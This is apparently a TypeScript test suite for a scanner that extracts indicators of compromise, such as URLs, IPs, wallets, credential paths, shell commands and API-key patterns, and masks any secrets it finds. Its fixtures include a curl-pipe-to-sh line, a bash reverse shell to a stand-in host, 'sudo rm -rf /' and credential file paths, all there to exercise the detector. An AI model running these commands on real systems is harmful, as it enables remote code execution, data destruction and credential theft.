import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { IndicatorFact } from '../../../shared/domain/fact';
import { IndicatorTable } from './indicator-table';
import { IndicatorSieve, type Spelling } from './sieve';
import { TextFeed } from './text-feed';

const encode = (text: string) => new TextEncoder().encode(text);

function collecting() {
  const facts: IndicatorFact[] = [];
  const omitted = new Map<string, number>();
  const table = new IndicatorTable(
    (fact) => facts.push(fact),
    (label) => omitted.set(label, (omitted.get(label) ?? 0) + 1),
  );
  return { facts, omitted, table };
}

/** What is found in a text, as `type value`. */
function found(text: string, spelling: Spelling = 'plain', source: IndicatorFact['source'] = 'literal'): string[] {
  const { facts, table } = collecting();
  const bytes = encode(text);
  new IndicatorSieve(table, [], source, spelling).read(bytes, 0, bytes.length, 0);
  return facts.map(({ type, secret, value }) => `${secret ?? type} ${value}`);
}

/** What is found in a literal, past the look that most literals do not pass. */
function inLiteral(text: string): string[] {
  const { facts, table } = collecting();
  const bytes = encode(text);
  new IndicatorSieve(table, [], 'literal', 'plain').literal(bytes, 0, bytes.length, 0);
  return facts.map(({ type, secret, value }) => `${secret ?? type} ${value}`);
}

/** Random-looking and of nobody: drawn once, from the letters that the issuer uses. */
const BODY = 'q7Zt2Lw9Xk4Vb8Nc3Rm6Hd1Jf5Gs0PyTaUeQoWiMxBvCzDlKnSjFhRgYpZuEtAoI';
const UPPER = 'Q7ZT2LW4XK6VB3NC';

describe('addresses', () => {
  test.each([
    ['https://attacker.example/x', 'url https://attacker.example/x'],
    ['see (https://attacker.example/a_(b)).', 'url https://attacker.example/a_(b)'],
    ['git+https://attacker.example/r.git@main', 'url https://attacker.example/r.git@main'],
    ['ftp://10.0.0.1/a', 'url ftp://10.0.0.1/a'],
    ['http://[2001:db8::1]:8080/x', 'url http://[2001:db8::1]:8080/x'],
    ['http://localhost:5000', 'url http://localhost:5000'],
    ['s3://bucket/key.bin', 'url s3://bucket/key.bin'],
    ['file:///etc/passwd', 'url file:///etc/passwd'],
    ['ldap://attacker.example:1389/a', 'url ldap://attacker.example:1389/a'],
    ['C2=attacker.example:4444', 'domain attacker.example'],
    ['evil.com', 'domain evil.com'],
    ['a.ngrok.io', 'domain a.ngrok.io'],
    ['www.firma.de', 'domain www.firma.de'],
    ['firma.co.uk', 'domain firma.co.uk'],
    ['evil.io/stage2', 'domain evil.io'],
    ['name@attacker.example', 'email name@attacker.example'],
    ['Someone <a.b+c@uni-x.de>', 'email a.b+c@uni-x.de'],
    ['git@github.com:owner/r.git', 'domain github.com'],
    ['185.199.108.133', 'ipv4 185.199.108.133'],
    ['10.0.0.1:4444', 'ipv4 10.0.0.1'],
    ['127.0.0.1', 'ipv4 127.0.0.1'],
    ['2001:db8::8a2e:370:7334', 'ipv6 2001:db8::8a2e:370:7334'],
    ['fe80::1', 'ipv6 fe80::1'],
    ['0x52908400098527886E0F7030069857D2E4169EE7', 'wallet 0x52908400098527886E0F7030069857D2E4169EE7'],
    ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'wallet bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
    expect(inLiteral(text)).toContain(expected);
  });

  test.each([
    // Names of modules, classes, parameters, layers.
    'sklearn.tree._tree',
    'scipy.io',
    'spacy.lang.de',
    'tensorflow.python.io',
    'self.net',
    'java.net',
    'model.layers.0.mlp.gate_proj.weight',
    'model/layer/kernel:0',
    'com.google.protobuf',
    'aten::add.Tensor',
    'c10::add',
    'std::vector',
    'module.fit',
    // Files.
    'README.md',
    'train.py:12',
    'libgomp.so.1',
    'weights/model.bin',
    'archive.zip/data',
    // Numbers.
    '4.8.0.76',
    '1.13.1',
    '1.2.3.4.5',
    'nvidia-cublas-cu12==12.1.105.132',
    '12:30:45',
    '2023.11.24.10',
    '999.1.1.1',
    '3.14159',
    // Pieces, as vocabularies have them.
    '://',
    'http://',
    'https://www.',
    'http://%s/x',
    'https://{host}/x',
    '.com',
    'www',
    '@torch.jit.script',
    'a@b',
    'python@3.11',
    // Hashes and numbers that begin like a wallet.
    '0x52908400098527886E0F7030069857D2E4169EE70000',
    '52908400098527886E0F7030069857D2E4169EE7',
  ])('%s is none', (text) => {
    expect(found(text)).toEqual([]);
  });

  test('names in source code are none, texts in it are', () => {
    expect(found('x = model.org\ny = data.com.value', 'code', 'source')).toEqual([]);
    expect(found('connect("attacker.example")', 'code', 'source')).toEqual(['domain attacker.example']);
  });

  test('a password in an address is masked, and a fact of its own', () => {
    expect(found('postgres://root:hunter22@db.attacker.example/x')).toEqual([
      'basicAuth … (8 characters)',
      'url postgres://root:…@db.attacker.example/x',
    ]);
  });
});

describe('paths and keys', () => {
  test.each([
    ['/etc/passwd', 'unixPath /etc/passwd'],
    ['--config=/etc/x.conf', 'unixPath /etc/x.conf'],
    ['/usr/bin:/opt/tool/bin', 'unixPath /opt/tool/bin'],
    ['/data/models/v2/a.bin', 'unixPath /data/models/v2/a.bin'],
    ['~/.ssh/id_rsa', 'homePath ~/.ssh/id_rsa'],
    ['/home/jürgen/model.pt', 'homePath /home/jürgen/model.pt'],
    ['$HOME/.aws/credentials', 'homePath $HOME/.aws/credentials'],
    ['C:\\Windows\\win.ini', 'windowsPath C:\\Windows\\win.ini'],
    ['C:/Temp/a.exe', 'windowsPath C:/Temp/a.exe'],
    ['C:\\Program Files\\A B\\c.exe /q', 'windowsPath C:\\Program Files\\A B\\c.exe'],
    ['C:\\Users\\me\\model.pkl', 'homePath C:\\Users\\me\\model.pkl'],
    ['%APPDATA%\\x\\y.dll', 'homePath %APPDATA%\\x\\y.dll'],
    ['\\\\10.0.0.5\\share\\w', 'uncPath \\\\10.0.0.5\\share\\w'],
    ['\\\\attacker.example\\c$\\w', 'uncPath \\\\attacker.example\\c$\\w'],
    ['HKLM\\Software\\Microsoft\\Windows NT\\Run', 'registryKey HKLM\\Software\\Microsoft\\Windows NT\\Run'],
    ['HKEY_CURRENT_USER\\Software\\X', 'registryKey HKEY_CURRENT_USER\\Software\\X'],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
    expect(inLiteral(text)).toContain(expected);
  });

  test.each([
    '/',
    '//',
    '/s/g',
    '/tmp',
    '/model/layers/kernel',
    '/v1/chat/completions',
    'a/b/c.txt',
    'and/or',
    '</etc>',
    'Q:\\n',
    '\\alpha\\beta',
    '\\\\hline\\bar',
    '\\d+\\w',
    'x:\\',
  ])('%s is none', (text) => {
    expect(found(text)).toEqual([]);
  });

  test('doubled backslashes of JSON and code are one', () => {
    expect(found('{"a": "C:\\\\Users\\\\me\\\\x"}', 'escaped', 'document')).toEqual(['homePath C:\\Users\\me\\x']);
    expect(found('{"a": "A:\\nB", "b": "x\\n/etc/passwd"}', 'escaped', 'document')).toEqual(['unixPath /etc/passwd']);
  });
});

describe('commands', () => {
  test.each([
    ['curl https://attacker.example | sh', 'command curl https://attacker.example | sh'],
    ['/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'command /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['powershell -enc SQBFAFgA', 'command powershell -enc SQBFAFgA'],
    ['cmd.exe /c calc', 'command cmd.exe /c calc'],
    ['python3 -c "import os"', 'command python3 -c "import os"'],
    ['sudo rm -rf /', 'command sudo rm -rf /'],
    ['echo cuvette > /tmp/x', 'command echo cuvette > /tmp/x'],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
    expect(inLiteral(text)).toContain(expected);
  });

  test.each([
    'curl',
    'find the best model',
    'cat sat on the mat',
    'python -m pip install x',
    'touch screen',
    'sort by',
    'base64 (an encoding) -- please use it',
  ])('%s is none', (text) => {
    expect(found(text)).toEqual([]);
  });

  test('in texts for people only lines with the form of a command count', () => {
    expect(found('Use curl to get it.\nwget is fine\n$ wget https://a.example/x', 'plain', 'text')).toEqual([
      'command wget https://a.example/x',
      'url https://a.example/x',
    ]);
    expect(found('echo state networks /tmp/x', 'plain', 'text')).toEqual(['unixPath /tmp/x']);
  });
});

describe('secrets', () => {
  const cases: readonly (readonly [kind: string, text: string])[] = [
    ['awsAccessKeyId', `AKIA${UPPER}`],
    ['github', `ghp_${BODY.slice(0, 36)}`],
    ['github', `github_pat_${BODY.slice(0, 22)}_${BODY.slice(3, 62)}`],
    ['gitlab', `glpat-${BODY.slice(0, 20)}`],
    ['slack', `xoxb-123456789012-${BODY.slice(0, 24)}`],
    ['huggingFace', `hf_${BODY.slice(0, 34)}`],
    ['openai', `sk-${BODY.slice(0, 48)}`],
    ['openai', `sk-proj-${BODY.slice(0, 60)}`],
    ['anthropic', `sk-ant-api03-${BODY.slice(0, 64)}`],
    ['google', `AIza${BODY.slice(0, 35)}`],
    ['googleOauth', `GOCSPX-${BODY.slice(0, 28)}`],
    ['npm', `npm_${BODY.slice(0, 36)}`],
    ['pypi', `pypi-AgEIcHlwaS5vcmc${BODY.slice(0, 64)}`],
    ['stripe', `sk_live_${BODY.slice(0, 24)}`],
    ['telegram', `123456789:AA${BODY.slice(0, 33)}`],
    ['jwt', `eyJ${BODY.slice(0, 20)}.eyJ${BODY.slice(5, 40)}.${BODY.slice(8, 50)}`],
  ];

  test.each(cases)('%s', (kind, text) => {
    const expected = `${kind} ${text.slice(0, 4)}… (${text.length} characters)`;
    expect(found(text)).toContain(expected);
    expect(inLiteral(text)).toContain(expected);
    expect(found(`token: "${text}",`, 'escaped', 'document')).toContain(expected);
    // Never in clear, in nothing that is found beside it.
    const around = found(`curl -H "Authorization: Bearer ${text}" https://a.example/?k=${text}`);
    expect(around.join('\n')).not.toContain(text);
    expect(around.some((line) => line.startsWith('command '))).toBe(true);
  });

  test.each([
    'AKIAIOSFODNN7EXAMPLE',
    'AKIA1234',
    `ghp_${'x'.repeat(36)}`,
    'hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    'sk-learn-pipeline-with-a-very-long-name-that-goes-on-and-on',
    'eyJhbGciOiJub25lIn0',
    'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
    '-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----',
  ])('%s is none', (text) => {
    expect(found(text).filter((line) => !line.startsWith('wallet'))).toEqual([]);
  });

  test('an AWS secret is told by the words in front of it', () => {
    const key = `${BODY.slice(0, 38)}+/`.slice(0, 40);
    expect(found(`aws_secret_access_key = ${key}`)).toEqual([`awsSecretKey ${key.slice(0, 4)}… (40 characters)`]);
    expect(found(`aws_secret_access_key=${key}`)).toEqual([`awsSecretKey ${key.slice(0, 4)}… (40 characters)`]);
    expect(found(`checksum = ${key}`)).toEqual([]);
  });

  test('a private key is one fact from its first line to its last', () => {
    const pem = `-----BEGIN RSA PRIVATE KEY-----\n${BODY}\n${BODY}\n-----END RSA PRIVATE KEY-----`;
    const { facts, table } = collecting();
    const bytes = encode(`key:\n${pem}\nrest`);
    new IndicatorSieve(table, [], 'text', 'plain').read(bytes, 0, bytes.length, 0);
    expect(facts).toHaveLength(1);
    expect(facts[0]).toMatchObject({ secret: 'privateKey', range: { start: 5, end: 5 + pem.length } });
    expect(facts[0]?.value).not.toContain(BODY.slice(0, 8));
    const [inJson, ...others] = found(JSON.stringify({ k: pem }), 'escaped', 'document');
    expect(others).toEqual([]);
    expect(inJson).toMatch(/^privateKey -----BEGIN RSA PRIVATE KEY----- \(\d+ bytes\)$/);
  });
});

describe('the table', () => {
  test('keeps each value once, with its first place and a count', () => {
    const { facts, table } = collecting();
    const bytes = encode('x https://a.example/1 https://a.example/1\nhttps://a.example/2');
    new IndicatorSieve(table, ['m'], 'text', 'plain').read(bytes, 0, bytes.length, 100);
    expect(facts.map(({ value, count, range, entryPath }) => ({ value, count, range, entryPath }))).toEqual([
      { value: 'https://a.example/1', count: 2, range: { start: 102, end: 121 }, entryPath: ['m'] },
      { value: 'https://a.example/2', count: 1, range: { start: 142, end: 161 }, entryPath: ['m'] },
    ]);
  });

  test('the same bytes read twice count once', () => {
    const { facts, table } = collecting();
    const bytes = encode('https://a.example/1');
    for (let i = 0; i < 2; i++) new IndicatorSieve(table, ['m'], 'text', 'plain').read(bytes, 0, bytes.length, 7);
    expect(facts[0]?.count).toBe(1);
  });

  test('a flood of one type is bounded, counted, and hides no other', () => {
    const { facts, omitted, table } = collecting();
    const lines = Array.from({ length: 3000 }, (_, i) => `https://a.example/${i}`).join('\n');
    const bytes = encode(`${lines}\nname@attacker.example`);
    new IndicatorSieve(table, [], 'text', 'plain').read(bytes, 0, bytes.length, 0);
    expect(facts.filter(({ type }) => type === 'url')).toHaveLength(1000);
    expect(omitted.get('indicator url')).toBe(2000);
    expect(facts.at(-1)?.type).toBe('email');
  });
});

describe('laws', () => {
  const pieces = fc.constantFrom(
    'http://',
    '://',
    'a.com',
    '@',
    '.',
    '/',
    '/etc/x',
    '\\\\',
    'C:\\',
    '-----BEGIN RSA PRIVATE KEY-----',
    '-----END',
    'eyJ',
    `ghp_${BODY.slice(0, 36)}`,
    ' ',
    '\n',
    '"',
    '\\n',
    '=',
    ':',
    '::',
    '1.2.3.4',
    'curl ',
    '-',
    'sk-',
    '[',
    ']',
    'é',
  );
  const texts = fc.oneof(
    fc.uint8Array({ maxLength: 200 }),
    fc.array(pieces, { maxLength: 40 }).map((parts) => encode(parts.join(''))),
  );
  const spellings = fc.constantFrom<Spelling>('plain', 'escaped', 'code');

  test('any bytes end in places inside them', () => {
    fc.assert(
      fc.property(texts, spellings, fc.nat(20), (bytes, spelling, skip) => {
        const { facts, table } = collecting();
        const from = Math.min(skip, bytes.length);
        const sieve = new IndicatorSieve(table, [], 'literal', spelling);
        sieve.literal(bytes, from, bytes.length, 1000);
        sieve.read(bytes, from, bytes.length, 1000);
        for (const { range } of facts) {
          expect(range.start).toBeGreaterThanOrEqual(1000 + from);
          expect(range.end).toBeGreaterThan(range.start);
          expect(range.end).toBeLessThanOrEqual(1000 + bytes.length);
        }
      }),
      { numRuns: 3000 },
    );
  });

  test('what a look at a literal lets through is what reading finds, for values that stand alone', () => {
    const alone = fc.constantFrom('https://a.example/x', '/etc/passwd', 'evil.com', 'n@a.example', '10.1.99.88');
    fc.assert(
      fc.property(alone, fc.constantFrom('', ' ', '\n'), (value, around) => {
        expect(inLiteral(`${around}${value}${around}`)).toEqual(found(`${around}${value}${around}`));
      }),
    );
  });

  test('a text in chunks is the text, wherever it is cut', () => {
    const text = encode(
      `first https://a.example/1\nsecond name@attacker.example and\n/etc/passwd\n${'x'.repeat(300)} evil.com`,
    );
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 6 }), (cuts) => {
        const whole = collecting();
        new IndicatorSieve(whole.table, [], 'text', 'plain').read(text, 0, text.length, 0);
        const parts = collecting();
        const feed = new TextFeed(new IndicatorSieve(parts.table, [], 'text', 'plain'));
        const places = [0, ...cuts.sort((a, b) => a - b), text.length];
        for (let i = 1; i < places.length; i++) feed.write(text.subarray(places[i - 1], places[i]));
        feed.end();
        expect(parts.facts).toEqual(whole.facts);
      }),
    );
  });

  test.each([
    'a.',
    'a.a@',
    'http://http://',
    'http://a.example/',
    '://',
    '@',
    'a@a.com@',
    '/etc/',
    '=/etc/x',
    '\\\\a.b',
    'C:\\ a\\',
    'sk-',
    'eyJ.',
    'eyJaaaaaaaaaa.',
    '-----BEGIN RSA PRIVATE KEY-----\n',
    '-----BEGIN PRIVATE KEY-----',
    '1.1.1.1',
    '1.',
    '::',
    'a:',
    'curl -x ',
    'curl -x\n',
    'sudo ',
    '"curl ',
    ':AA12345678',
    '123456789:',
    '\\',
    '\\"',
    'Aa1/',
    'AKIA',
    'a b\\ ',
  ])('time is linear in hostile text: %s', (piece) => {
    const time = (bytes: number) => {
      const text = encode(piece.repeat(Math.ceil(bytes / piece.length)));
      const started = performance.now();
      for (const spelling of ['plain', 'code'] as const) {
        const { table } = collecting();
        new IndicatorSieve(table, [], 'text', spelling).read(text, 0, text.length, 0);
      }
      return performance.now() - started;
    };
    // A quadratic walk of half a megabyte takes minutes.
    expect(time(512 * 1024)).toBeLessThan(4000);
  });
});
